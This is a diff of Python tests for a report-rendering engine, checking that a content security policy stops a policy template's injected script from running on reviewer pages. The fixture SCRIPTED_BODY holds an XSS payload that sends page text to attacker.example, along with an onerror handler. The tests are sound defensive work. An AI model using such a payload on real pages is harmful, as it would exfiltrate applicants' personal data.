@@ -513,9 +513,11 @@ def test_a_runaway_report_template_fails_the_report_not_the_batch(tmp_path: Path
 
 def test_a_report_budget_grows_with_its_applications(policy: engine.CompiledPolicy, decision: engine.Decision) -> None:
     own = _unchecked(policy, "{{ rows|length }} rows\n", "report.html.j2")
-    assert render_report(own, [decision] * 3) == "3 rows\n"
+    from engine.explaining.render import with_page_policy
+
+    assert render_report(own, [decision] * 3) == with_page_policy("3 rows\n")  # (every page states its policy first)
     runaway = _unchecked(policy, "{% for r in rows %}{{ 'y'|center(900000) }}{% endfor %}", "report.html.j2")
-    assert len(render_report(runaway, [decision] * 6)) == 6 * 900000  # 5 MB + 1 MB per application: within
+    assert len(render_report(runaway, [decision] * 6)) == 6 * 900000 + len(with_page_policy(""))  # 5 MB + 1 MB per application: within
     with pytest.raises(RenderError, match="output longer than"):
         render_report(
             _unchecked(policy, "{% for r in rows %}{% for s in rows %}{{ 'y'|center(900000) }}{% endfor %}{% endfor %}", "report.html.j2"),
@@ -571,3 +573,71 @@ def test_the_fast_text_path_is_kept_when_no_text_template_is_overridden(tmp_path
     d = engine.evaluate(own, claim(item("pledge_loan_interest", "c1"), claim_id="T-6"))
     assert explain(own, d) == r.explain(d.to_dict(), "text")
     assert explain(own, d, "zh", "md") == "T-6"
+
+
+# --- a policy's HTML cannot run script on a page that lists every applicant (red-team, session 17) ---------------------
+
+SCRIPTED_BODY = (
+    "  all:\n"
+    "    _explain_body.html.j2: \"<script>new Image().src='https://attacker.example/c?'+encodeURIComponent("
+    'document.body.innerText)</script><img src=x onerror=\\"document.title=\'PWNED\'\\">{{ x.title }}"\n'
+)
+
+
+def _page_policy(page: str) -> str:
+    found = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
+    assert found is not None, page[:300]
+    return found.group(1)
+
+
+def test_every_html_page_states_a_policy_that_runs_only_the_engine_s_own_script(tmp_path: Path) -> None:
+    # a policy's template wrote `<script>` (and an `onerror` handler) into the reviewers' report.html and every
+    # explanation page: it would have run when a reviewer opened the file, with every applicant's name and id on the
+    # page. Each page now states its content security policy before anything a template wrote, allowing the
+    # engine's one script by its hash; a script of the policy's is on the page but does not run (checked in a browser
+    # by `test_a_policy_s_script_does_not_run_in_a_browser`)
+    import base64
+    import hashlib
+
+    from engine.explaining.render import PAGE_CSP, REPORT_SCRIPT
+
+    own = engine.load_policy(_write(tmp_path, SCRIPTED_BODY))
+    decided = engine.evaluate(own, claim(item("pledge_loan_interest", "c1"), claim_id="T-9"))
+    engine_hash = base64.b64encode(hashlib.sha256(REPORT_SCRIPT.encode("utf-8")).digest()).decode("ascii")
+    assert PAGE_CSP == (
+        f"default-src 'none'; style-src 'unsafe-inline'; img-src data:; script-src 'sha256-{engine_hash}'; "
+        "base-uri 'none'; form-action 'none'"
+    )
+    page = explain(own, decided, "zh", "html")
+    report = render_report(own, [decided], "zh")
+    for text in (page, report):
+        assert "attacker.example" in text  # (the policy's HTML is there, as it wrote it)
+        assert _page_policy(text) == PAGE_CSP
+        assert text.index("Content-Security-Policy") < text.index("<script") and text.index("Content-Security-Policy") < text.index(
+            "<meta charset"
+        )
+        assert text.startswith('<!DOCTYPE html>\n<html lang="zh-CN">\n<head><meta http-equiv="Content-Security-Policy"')
+    scripts = re.findall(r"<script>(.*?)</script>", report, re.S)
+    allowed = [s for s in scripts if base64.b64encode(hashlib.sha256(s.encode("utf-8")).digest()).decode("ascii") == engine_hash]
+    assert len(scripts) == 2 and allowed == [REPORT_SCRIPT]  # the policy's, not allowed; the engine's, allowed
+    out = tmp_path / "out"
+    assert main(["batch", "--policy", str(_write(tmp_path, SCRIPTED_BODY)), str(ROOT / "examples" / "round_2021.jsonl"), "--out",
+                 str(out), "-q", "--ledger", f"sqlite:///{tmp_path / 'l.sqlite'}"]) == 3  # fmt: skip
+    written = (out / "report.html").read_text(encoding="utf-8")  # (written in pieces: its policy first all the same)
+    assert _page_policy(written) == PAGE_CSP and written.index("Content-Security-Policy") < written.index("<script")
+
+
+@pytest.mark.skipif(shutil.which("chromium") is None, reason="needs a headless Chromium (Debian's package chromium), not installed here")
+def test_a_policy_s_script_does_not_run_in_a_browser(tmp_path: Path) -> None:
+    import subprocess
+
+    out = tmp_path / "out"
+    main(["batch", "--policy", str(_write(tmp_path, SCRIPTED_BODY)), str(ROOT / "examples" / "round_2021.jsonl"), "--out", str(out),
+          "-q", "--ledger", f"sqlite:///{tmp_path / 'l.sqlite'}"])  # fmt: skip
+    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"]
+    flags += ["--disable-component-update", "--disable-sync", f"--user-data-dir={tmp_path / 'browser'}", "--dump-dom"]
+    dom = subprocess.run(
+        ["chromium", *flags, (out / "report.html").as_uri()], capture_output=True, text=True, timeout=120, check=False
+    ).stdout
+    assert 'data-js="ready"' in dom  # the engine's own script ran (it marks the page when it has)
+    assert "PWNED" not in dom.split("</title>")[0]  # the policy's handler did not
